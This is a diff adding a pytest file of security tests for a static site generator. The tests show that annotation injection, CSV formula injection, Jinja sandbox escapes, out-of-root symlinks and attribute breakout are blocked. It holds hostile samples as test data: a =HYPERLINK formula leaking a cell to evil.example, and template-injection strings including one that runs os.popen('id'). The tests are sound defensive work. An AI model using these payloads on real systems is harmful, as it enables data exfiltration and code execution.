@@ -1,0 +1,168 @@
+"""The other ways out of content: pull-request annotations, spreadsheet formulas, templates, symbolic links,
+and values Material prints into HTML attributes."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import shutil
+from pathlib import Path
+
+import pytest
+import yaml
+from conftest import REPO
+from hypothesis import given
+from hypothesis import strategies as st
+
+from generator import cli
+from generator.commands.build import build
+from generator.content.check import check
+from generator.content.problems import Problem, render
+from generator.content.theme import load_theme
+from generator.errors import ThemeError
+from generator.render.mkdocs_config import config
+from generator.site.charts.data import ChartSpec, Series, chart, chart_words
+from generator.site.exports import edition_data
+from generator.site.templating import yaml_string
+
+JOB = "initiatives/2022/03-good-jobs/job-fairs.md"
+
+
+def test_github_annotations_escape_every_property() -> None:
+    hostile = "a,b:c.md\n::error file=x.md,line=1::injected"
+    line = Problem(hostile, 3, 4, "bad 100% ::x\nnext").github()
+    assert "\n" not in line
+    # The properties end at the first '::'; the file name cannot close them early or add a property.
+    properties, message = line.removeprefix("::error ").split("::", 1)
+    assert properties == "file=a%2Cb%3Ac.md%0A%3A%3Aerror file=x.md%2Cline=1%3A%3Ainjected,line=3,col=4"
+    assert message == "bad 100%25 ::x%0Anext"
+    assert render([Problem("ok.md", 1, 1, "m")], "github", 1).splitlines()[0] == "::error file=ok.md,line=1,col=1::m"
+
+
+def test_csv_cells_cannot_start_a_formula_but_json_keeps_the_text(project: Path) -> None:
+    page = project / JOB
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    lines = page.read_text(encoding="utf-8").split("\n")
+    for i, line in enumerate(lines):
+        key, _, value = line.partition(": ")
+        new = {"  - label": formula, "summary": "+" + value, "source": "@" + value}.get(key)
+        lines[i] = f"{key}: {json.dumps(new)}" if new else line
+    page.write_text("\n".join(lines), encoding="utf-8")
+    checked = check(project)
+    assert checked.project is not None, [p.text() for p in checked.problems]
+    files = edition_data(checked.project, checked.project.edition(2022))
+    initiative = next(r for r in csv.DictReader(io.StringIO(files["initiatives.csv"])) if r["id"] == "job-fairs")
+    assert initiative["summary"].startswith("'+Fairs") and initiative["source"].startswith("'@Exampleshire")
+    metric = next(r for r in csv.DictReader(io.StringIO(files["metrics.csv"])) if r["initiative_id"] == "job-fairs")
+    assert metric["label"] == "'" + formula and metric["value"] == "5"
+    record = next(r for r in json.loads(files["initiatives.json"])["initiatives"] if r["id"] == "job-fairs")
+    assert record["metrics"][0]["label"] == formula and record["summary"].startswith("+Fairs")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_chart_csv_cells_cannot_start_a_formula(start: str) -> None:
+    words = chart_words(yaml.safe_load((REPO / "theme" / "labels.yml").read_text(encoding="utf-8")), "bars")
+    spec = ChartSpec("s", "T", "bars", (f"{start}1+1", "Plain"), (Series("n", (1.0, 2.0)),), "Count", "Place", words)
+    drawn = chart(spec, "<svg/>", "alt", (f"{start}Place", "Count"))
+    rows = list(csv.reader(io.StringIO(drawn.csv, newline="")))
+    cell = start.replace("\r", "\n")  # a lone CR would end the CSV row
+    assert rows == [[f"'{cell}Place", "Count"], [f"'{cell}1+1", "1"], ["Plain", "2"]]
+    assert drawn.rows[0][0] == f"{start}1+1"  # the table on the page shows the text as written
+
+
+def _theme(project: Path, page_template: str) -> None:
+    shutil.copytree(REPO / "theme", project / "theme")
+    (project / "theme/templates/page.md.j2").write_text(page_template, encoding="utf-8")
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+        "{{ '{0.__class__.__mro__}'.format(page) }}",
+        "{{ project.__class__.__init__.__globals__ }}",
+    ],
+)
+def test_a_theme_template_cannot_reach_python_internals(project: Path, hostile: str) -> None:
+    _theme(project, f"---\ntitle: x\n---\n\n{hostile}\n")
+    with pytest.raises(ThemeError) as caught:
+        build(project)
+    [problem] = caught.value.problems
+    assert (problem.path, problem.line) == ("theme/templates/page.md.j2", 5)
+    assert "unsafe" in problem.message and "<class" not in problem.message
+    assert not (project / "site").exists()
+
+
+def test_a_template_error_reaches_the_user_without_a_traceback(
+    project: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    _theme(project, "{{ ''.__class__ }}\n")
+    assert cli.main(["build", "--root", str(project)]) == 1
+    out = capsys.readouterr()
+    assert "theme/templates/page.md.j2:1:1: error: the template failed: access to attribute '__class__'" in out.out
+    assert "Traceback" not in out.out + out.err
+
+
+def _outside(tmp_path: Path) -> Path:
+    secret = tmp_path / "outside"
+    secret.mkdir()
+    (secret / "secret.md").write_text("---\ntitle: Secret\n---\nNot part of the content.\n", encoding="utf-8")
+    return secret
+
+
+def test_a_symlinked_file_out_of_the_root_is_an_error(project: Path, tmp_path: Path) -> None:
+    os.symlink(_outside(tmp_path) / "secret.md", project / "content/pages/secret.md")
+    errors = [p.text() for p in check(project).problems if p.severity == "error"]
+    assert errors == [
+        "content/pages/secret.md:1:1: error: symbolic link leads outside the content folder (or nowhere); "
+        "it is not followed (copy the file into the content folder instead of linking to it)"
+    ]
+
+
+def test_a_symlinked_folder_out_of_the_root_is_one_error(project: Path, tmp_path: Path) -> None:
+    outside = _outside(tmp_path)
+    shutil.copytree(project / "initiatives/2022/03-good-jobs", outside / "jobs")
+    shutil.rmtree(project / "initiatives/2022/03-good-jobs")
+    os.symlink(outside / "jobs", project / "initiatives/2022/03-good-jobs")
+    errors = [(p.path, p.line, p.col) for p in check(project).problems if p.severity == "error"]
+    assert errors == [("initiatives/2022/03-good-jobs", 1, 1)]
+
+
+def test_links_inside_the_root_and_loops(project: Path) -> None:
+    os.symlink("about.md", project / "content/pages/about-us.md")  # inside: read like any file
+    os.symlink("loop.md", project / "content/pages/loop.md")
+    errors = [(p.path, p.line) for p in check(project).problems if p.severity == "error"]
+    assert errors == [("content/pages/loop.md", 1)]
+
+
+def test_a_theme_file_linked_out_of_the_root_is_an_error(project: Path, tmp_path: Path) -> None:
+    _theme(project, "---\ntitle: x\n---\n")
+    os.symlink(_outside(tmp_path) / "secret.md", project / "theme/assets/secret.css")
+    with pytest.raises(ThemeError) as caught:
+        load_theme(project)
+    assert [(p.path, p.line, p.col) for p in caught.value.problems] == [("theme/assets/secret.css", 1, 1)]
+
+
+def test_the_description_fallback_cannot_leave_its_attribute(project: Path) -> None:
+    site = project / "content/site.yml"
+    site.write_text("\n".join(ln for ln in site.read_text().splitlines() if not ln.startswith("description")))
+    edition = project / "content/2022/edition.yml"
+    lines = edition.read_text().split("\n")
+    summary = 'Fairs "for all" & fewer than <5 left" content="x'
+    edition.write_text("\n".join(f"summary: {json.dumps(summary)}" if ln.startswith("summary") else ln for ln in lines))
+    checked = check(project)
+    assert checked.project is not None, [p.text() for p in checked.problems]
+    cfg = config(
+        checked.project, checked.project.edition(2022), "docs", "site", "overrides", load_theme(project).labels
+    )
+    assert cfg["site_description"] == "Fairs &quot;for all&quot; &amp; fewer than &lt;5 left&quot; content=&quot;x"
+
+
+@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=40))
+def test_a_title_is_one_yaml_string_whatever_it_holds(text: str) -> None:
+    front = f"---\ntitle: {yaml_string(text)}\n---\n"
+    assert yaml.safe_load(front.split("---\n")[1]) == {"title": text}
+    assert front.count("\n") == 3  # no line break of its own: nothing can end the front matter early
